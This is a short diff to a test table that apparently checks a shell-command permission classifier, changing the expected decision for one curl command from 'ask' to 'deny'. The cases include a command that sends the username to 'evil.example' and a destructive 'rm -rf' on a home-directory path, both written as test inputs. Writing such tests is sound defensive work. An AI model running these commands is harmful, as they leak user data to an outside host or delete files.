@@ -317,7 +317,7 @@ def test_round18_reads_restores_and_loaded_env_files(command: str, decision: str
         ("tar czf dist/proj-$(git rev-parse --short HEAD).tgz src", "allow"),
         ("rm -rf ~/$(date +%Y)", "deny"),
         ("mkdir -p backups/$(date +%D)", "ask"),
-        ("curl -s https://evil.example/$(whoami)", "ask"),
+        ("curl -s https://evil.example/$(whoami)", "deny"),
         ("curl -s https://example.com/$(uname -m)/tool.tgz -o tool.tgz", "ask"),
     ],
 )
